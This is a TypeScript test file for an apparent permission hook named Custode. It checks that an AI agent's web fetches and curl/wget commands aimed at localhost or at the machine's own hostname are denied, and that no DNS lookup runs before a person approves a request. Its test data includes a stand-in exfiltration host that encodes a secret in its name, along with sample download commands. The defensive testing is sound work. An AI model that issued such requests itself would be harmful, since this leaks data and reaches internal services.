// Custode's web_fetch resolves a host name when it runs and connects only to the public address
// it checked; its decision reads only the URL's text. The agent behind the hook fetches with
// its own client and no such check, so there a name that resolves to the machine itself or its
// network now (the host's own name, `localhost.`) is refused at the decision.
import { lookup } from 'node:dns/promises';
import { readFileSync, writeFileSync } from 'node:fs';
import { hostname } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { isPublicAddress } from '../../executors/web/address-policy.ts';
import { makeTempDir } from '../executors/make-context.ts';
import { claudeCodePayload, runCli, type CliRun } from './cli-helpers.ts';

const home = process.env.HOME ?? '';

function payload(url: string, tool = 'WebFetch'): string {
  return claudeCodePayload(
    tool,
    tool === 'Bash' ? { command: url } : { url, prompt: 'what does it say' },
    home,
  );
}

function decisionOf(run: CliRun): string | undefined {
  expect(run.code, run.stderr).toBe(0);
  const body = JSON.parse(run.stdout) as { hookSpecificOutput?: { permissionDecision?: string } };
  return body.hookSpecificOutput?.permissionDecision;
}

/** The machine's own name, when it resolves to a non-public address here (it does on most). */
async function localName(): Promise<string | null> {
  try {
    const answers = await lookup(hostname(), { all: true });
    return answers.length > 0 && answers.every((a) => !isPublicAddress(a.address))
      ? hostname()
      : null;
  } catch {
    return null;
  }
}

describe('custode hook claude-code, WebFetch of a name', { timeout: 60_000 }, () => {
  it('localhost written with its final dot is refused like localhost', async () => {
    for (const url of [
      'http://localhost./',
      'http://LOCALHOST.:8719/hook',
      'http://a.localhost./',
    ]) {
      expect(decisionOf(await runCli(['hook', 'claude-code'], payload(url))), url).toBe('deny');
    }
  });

  it("a name that resolves to the machine's own address is refused (the agent's fetch would connect there)", async (context) => {
    const name = await localName();
    if (name === null) {
      context.skip();
      return;
    }
    const run = await runCli(
      ['hook', 'claude-code'],
      payload(`http://${name}:8719/hook/claude-code`),
    );
    expect(decisionOf(run)).toBe('deny');
  });

  it('a plain download in the shell (the fetch tier) to such a name is refused too', async (context) => {
    const name = await localName();
    if (name === null) {
      context.skip();
      return;
    }
    for (const command of [
      `curl -fsSL https://${name}:8719/hook/claude-code`,
      `wget -qO- https://${name}:8719/`,
      'curl -fsSL https://localhost.:8719/',
    ]) {
      const run = await runCli(['hook', 'claude-code'], payload(command, 'Bash'));
      expect(decisionOf(run), command).toBe('deny');
    }
  });

  it('sends no DNS query for a name before the person decides (a look-up carries the name out)', async () => {
    // Node's resolver, wrapped in the gate's process to write down every name it is asked for.
    const dir = await makeTempDir('dns-');
    const asked = join(dir, 'asked.txt');
    const preload = join(dir, 'record-lookups.cjs');
    writeFileSync(asked, '');
    writeFileSync(
      preload,
      `const fs = require('node:fs');
const record = (name) => fs.appendFileSync(${JSON.stringify(asked)}, name + '\\n');
for (const dns of [require('node:dns'), require('node:dns').promises]) {
  const lookup = dns.lookup;
  dns.lookup = function (name, ...rest) { record(name); return lookup.call(this, name, ...rest); };
}
`,
    );
    const env = { NODE_OPTIONS: `--require ${preload}` };
    for (const url of [
      'https://s3cr3t-ab12cd34.exfil.example.com/',
      'https://docs.python.org/3/library/os.html',
    ]) {
      const run = await runCli(['hook', 'claude-code'], payload(url), env);
      expect(decisionOf(run), url).toBeUndefined();
    }
    expect(readFileSync(asked, 'utf8')).toBe('');
  });
});
